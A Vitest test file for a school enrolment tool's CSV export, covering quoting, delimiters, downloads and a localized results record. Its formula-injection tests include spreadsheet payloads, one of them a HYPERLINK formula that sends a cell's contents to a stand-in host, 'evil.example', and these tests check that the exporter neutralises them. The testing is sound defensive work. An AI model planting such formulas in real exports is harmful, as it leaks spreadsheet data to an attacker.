import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ApiError } from '../../api/client';
import { bulkMessagesFor } from './messages';
import type { RowReport } from './outcomes';
import { downloadCsv, resultsCsvRows, toCsv, type ResultsRecord } from './results-csv';

const HEADER = ['Linha', 'Nome', 'E-mail'];

/** The cells of `csv` as a spreadsheet would read them (papaparse drops the BOM). */
function parse(csv: string, delimiter: ',' | ';' | '\t' = ','): string[][] {
  const result = Papa.parse<string[]>(csv, { delimiter, newline: '\r\n' });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('toCsv', () => {
  it('starts with a BOM, ends lines with CRLF, and quotes only what needs it', () => {
    const csv = toCsv(
      HEADER,
      [
        ['2', 'Ana Souza', 'ana@example.com'],
        ['3', 'Souza, Bruno', 'bruno@example.com'],
      ],
      ',',
    );

    expect(csv).toBe(
      '\uFEFFLinha,Nome,E-mail\r\n2,Ana Souza,ana@example.com\r\n3,"Souza, Bruno",bruno@example.com',
    );
  });

  it('is the header alone when there are no rows', () => {
    expect(toCsv(HEADER, [], ',')).toBe('\uFEFFLinha,Nome,E-mail');
  });

  it('round-trips accents, quotes, delimiters, line breaks and empty cells', () => {
    const rows = [
      ['2', 'João Conceição Müller', 'joao@example.com'],
      ['3', 'Ana "Aninha" d\'Ávila', ''],
      ['4', 'linha um\r\nlinha dois', 'a,b;c\td'],
      ['5', ' espaços ', 'x=y'],
    ];

    const csv = toCsv(HEADER, rows, ',');

    expect(parse(csv)).toEqual([HEADER, ...rows]);
    expect(csv).toContain('"Ana ""Aninha"" d\'Ávila"');
  });

  it.each([';', '\t'] as const)('separates cells with %j', (delimiter) => {
    const rows = [['2', 'Souza, Ana', 'ana@example.com']];

    const csv = toCsv(HEADER, rows, delimiter);

    expect(csv).toBe(
      `\uFEFF${['Linha', 'Nome', 'E-mail'].join(delimiter)}\r\n${rows[0]!.join(delimiter)}`,
    );
    expect(parse(csv, delimiter)).toEqual([HEADER, ...rows]);
  });

  it.each([
    ['=', '=1+1'],
    ['+', '+55 11 91234-5678'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['spaces then =', '  =1+1'],
    ['a no-break space then +', '\u00a0+1'],
    ['an ideographic space then @', '\u3000@SUM(A1:A9)'],
    ['a full-width =', '\uff1d1+1'],
    ['a full-width +', '\uff0b1'],
    ['a full-width -', '\uff0d1'],
    ['a full-width @', '\uff20SUM(A1:A9)'],
  ])('neutralises a cell starting with %s', (_name, value) => {
    const csv = toCsv(HEADER, [['2', value, 'x@example.com']], ';');

    expect(parse(csv, ';')[1]).toEqual(['2', `'${value}`, 'x@example.com']);
  });

  it('neutralises a formula with a line break after its first character', () => {
    const value = '=HYPERLINK("http://evil.example/?"&A1;"Clique")\nx';
    // papaparse's own guard lets this one through.
    expect(Papa.unparse([[value]], { escapeFormulae: true })).not.toContain(`'=`);

    const csv = toCsv(HEADER, [['2', value, '\n=1+1']], ',');

    expect(parse(csv)[1]).toEqual(['2', `'${value}`, `'\n=1+1`]);
  });

  it('leaves formula characters alone after the start of a cell', () => {
    const rows = [
      ['2', 'Ana-Maria @ casa', 'ana+turma=9@example.com'],
      ['3', ' Ana ＝ Bia', ' x'],
    ];

    expect(parse(toCsv(HEADER, rows, ','))).toEqual([HEADER, ...rows]);
  });
});

describe('downloadCsv', () => {
  // Not vi.restoreAllMocks(): that would also undo the console.error spy of src/testing/setup.ts.
  let restoreClick = () => {};
  afterEach(() => {
    restoreClick();
    vi.useRealTimers();
    vi.unstubAllGlobals();
  });

  it('saves the text as a UTF-8 CSV through a temporary link, and frees the URL later', async () => {
    vi.useFakeTimers();
    let blob: Blob | undefined;
    const createObjectURL = vi.fn((object: Blob) => {
      blob = object;
      return 'blob:results';
    });
    const revokeObjectURL = vi.fn();
    vi.stubGlobal('URL', Object.assign(class extends URL {}, { createObjectURL, revokeObjectURL }));
    const clicked: HTMLAnchorElement[] = [];
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      expect(this.isConnected).toBe(true);
      clicked.push(this);
    });
    restoreClick = () => click.mockRestore();

    const csv = toCsv(HEADER, [['2', 'João', 'joao@example.com']], ',');
    downloadCsv('resultados.csv', csv);

    expect(clicked).toHaveLength(1);
    expect(clicked[0]?.download).toBe('resultados.csv');
    expect(clicked[0]?.getAttribute('href')).toBe('blob:results');
    expect(clicked[0]?.isConnected).toBe(false);
    expect(blob?.type).toBe('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await blob!.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(revokeObjectURL).not.toHaveBeenCalled();

    vi.runAllTimers();
    expect(revokeObjectURL).toHaveBeenCalledWith('blob:results');
  });
});

describe('resultsCsvRows: a record a secretary can file', () => {
  const words = (locale: 'pt-BR' | 'en') => bulkMessagesFor(locale).results.csv;
  const TURMAS = [
    { id: 't-9a', name: '9º ano A — Matemática' },
    { id: 't-1b', name: 'Física 1º B' },
  ];
  /** 31/12/2026 typed in São Paulo: the whole day, up to 23:59 there. */
  const END_OF_2026 = '2027-01-01T02:59:00.000Z';
  const reports: RowReport[] = [
    {
      line: 2,
      name: 'Ana Souza',
      email: 'ana@escola.test',
      expiry: END_OF_2026,
      outcome: 'enrolled',
    },
    { line: 3, name: 'Bruno', email: 'bruno@escola.test', expiry: '', outcome: 'enrolled' },
    {
      line: 4,
      name: 'Carla',
      email: 'carla@escola.test',
      expiry: END_OF_2026,
      outcome: 'failed',
      error: new ApiError('network', 'offline'),
    },
    { line: 5, name: 'Davi', email: 'davi@escola', expiry: '31/12/2026', outcome: 'excluded' },
    {
      line: 6,
      name: '',
      email: 'eva@escola.test',
      expiry: '01/01/2020',
      outcome: 'invalid',
      problems: [{ field: 'name', reason: 'missing' }],
    },
  ];
  const record: ResultsRecord = {
    mode: 'enrol',
    turmas: TURMAS,
    startedAt: new Date('2026-11-24T17:05:09.000Z'),
    reports,
  };
  const rowsIn = (locale: 'pt-BR' | 'en', which = record) =>
    resultsCsvRows(which, {
      text: words(locale),
      locale,
      timeZone: 'America/Sao_Paulo',
      detail: (report) => (report.outcome === 'failed' ? 'sem conexão' : ''),
    });

  it('says what was done, when, and to which turmas, by name and id', () => {
    const rows = rowsIn('pt-BR');
    expect(rows.slice(0, 6)).toEqual([
      ['Operação', 'Matrícula em lote'],
      ['Enviado em', '24/11/2026, 14:05:09 (America/Sao_Paulo)', '2026-11-24T17:05:09.000Z'],
      ['Turmas', '2'],
      ['Turma', '9º ano A — Matemática', 't-9a'],
      ['Turma', 'Física 1º B', 't-1b'],
      [],
    ]);
  });

  it('gives the expiry as entered, in local time, beside the exact instant sent, and an outcome per line', () => {
    const rows = rowsIn('pt-BR');
    expect(rows.slice(6)).toEqual([
      [
        'Linha',
        'Nome na lista',
        'Nome na plataforma',
        'E-mail',
        'Validade anterior (horário local, America/Sao_Paulo)',
        'Validade anterior (ISO 8601, UTC)',
        'Validade nova (horário local, America/Sao_Paulo)',
        'Validade nova (ISO 8601, UTC)',
        'Resultado',
        'Detalhe',
      ],
      // Not looked up (no extension): what the platform had is not claimed.
      [
        '2',
        'Ana Souza',
        '',
        'ana@escola.test',
        'Não verificada',
        '',
        '31/12/2026, 23:59',
        END_OF_2026,
        'Matriculado',
        '',
      ],
      [
        '3',
        'Bruno',
        '',
        'bruno@escola.test',
        'Não verificada',
        '',
        'Sem validade',
        '',
        'Matriculado',
        '',
      ],
      [
        '4',
        'Carla',
        '',
        'carla@escola.test',
        'Não verificada',
        '',
        '31/12/2026, 23:59',
        END_OF_2026,
        'Falhou',
        'sem conexão',
      ],
      // Never sent: what was typed, labelled as such.
      [
        '5',
        'Davi',
        '',
        'davi@escola',
        '',
        '',
        '31/12/2026',
        '',
        'Não enviado: excluído na revisão',
        '',
      ],
      [
        '6',
        '',
        '',
        'eva@escola.test',
        '',
        '',
        '01/01/2020',
        '',
        'Não enviado: linha com problema',
        '',
      ],
    ]);
  });

  it('records the name the platform kept and each turma’s expiry before, as the review found them', () => {
    const JUNE = '2027-06-30T12:00:00.000Z';
    const enrolledAt = '2026-02-01T12:00:00.000Z';
    const existing = (classes: { id: string; expirationDate: string | null }[]) => ({
      name: 'Gabriel Souza',
      email: 'gabriel@escola.test',
      classes: classes.map((turma) => ({ ...turma, name: turma.id, enrolledAt })),
    });
    const EARLIER = '2026-12-06T02:59:00.000Z';
    const lines: RowReport[] = [
      // Typed under another name, in both turmas until the end of 2026: the name stays.
      {
        line: 2,
        name: 'Nome Trocado',
        email: 'gabriel@escola.test',
        expiry: EARLIER,
        outcome: 'enrolled',
        existing: existing([
          { id: 't-9a', expirationDate: END_OF_2026 },
          { id: 't-1b', expirationDate: END_OF_2026 },
        ]),
      },
      // In one turma without expiry, not in the other; none sent.
      {
        line: 3,
        name: 'Gabriel Souza',
        email: 'gabriel@escola.test',
        expiry: '',
        outcome: 'enrolled',
        existing: existing([{ id: 't-9a', expirationDate: null }]),
      },
      {
        line: 4,
        name: 'Gabriel',
        email: 'gabriel@escola.test',
        expiry: EARLIER,
        outcome: 'enrolled',
        existing: existing([
          { id: 't-9a', expirationDate: END_OF_2026 },
          { id: 't-1b', expirationDate: JUNE },
        ]),
      },
      // Not registered: the name typed is the platform's once enrolled, and only then.
      {
        line: 5,
        name: 'Nova Aluna',
        email: 'nova@escola.test',
        expiry: '',
        outcome: 'enrolled',
        existing: null,
      },
      {
        line: 6,
        name: 'Outra Nova',
        email: 'outra@escola.test',
        expiry: '',
        outcome: 'rejected',
        existing: null,
      },
    ];
    const rows = rowsIn('pt-BR', { ...record, reports: lines }).slice(7);
    expect(rows.map((row) => row.slice(1, 8))).toEqual([
      [
        'Nome Trocado',
        'Gabriel Souza',
        'gabriel@escola.test',
        '31/12/2026, 23:59',
        END_OF_2026,
        '05/12/2026, 23:59',
        EARLIER,
      ],
      [
        'Gabriel Souza',
        'Gabriel Souza',
        'gabriel@escola.test',
        '9º ano A — Matemática: Sem validade; Física 1º B: Não estava na turma',
        't-9a: -',
        'Sem validade',
        '',
      ],
      [
        'Gabriel',
        'Gabriel Souza',
        'gabriel@escola.test',
        '9º ano A — Matemática: 31/12/2026, 23:59; Física 1º B: 30/06/2027, 09:00',
        `t-9a: ${END_OF_2026}; t-1b: ${JUNE}`,
        '05/12/2026, 23:59',
        EARLIER,
      ],
      ['Nova Aluna', 'Nova Aluna', 'nova@escola.test', 'Aluno novo', '', 'Sem validade', ''],
      ['Outra Nova', '', 'outra@escola.test', 'Aluno novo', '', 'Sem validade', ''],
    ]);
  });

  it('in English too; a removal has no expiry and does not claim a removal happened', () => {
    // Not known to have been in the turmas (no look-up): only that she is not in them now.
    const removal: ResultsRecord = {
      ...record,
      mode: 'remove',
      reports: [
        { line: 2, name: '', email: 'ana@escola.test', expiry: '', outcome: 'no-longer-in' },
      ],
    };
    const rows = rowsIn('en', removal);
    expect(rows[0]).toEqual(['Operation', 'Bulk removal']);
    expect(rows[1]).toEqual([
      'Sent on',
      expect.stringMatching(/^11\/24\/2026, 02:05:09\sPM \(America\/Sao_Paulo\)$/),
      '2026-11-24T17:05:09.000Z',
    ]);
    expect(rows.at(-1)).toEqual([
      '2',
      '',
      '',
      'ana@escola.test',
      '',
      '',
      '',
      '',
      'No longer in the class(es)',
      '',
    ]);
  });

  it('round-trips through the CSV, preamble and all', () => {
    const [header = [], ...rest] = rowsIn('pt-BR');
    const csv = toCsv(header, rest, ';');
    const parsed = Papa.parse<string[]>(csv.slice(1), {
      delimiter: ';',
      skipEmptyLines: true,
    }).data;
    expect(parsed).toEqual(rowsIn('pt-BR').filter((row) => row.length > 0));
  });
});
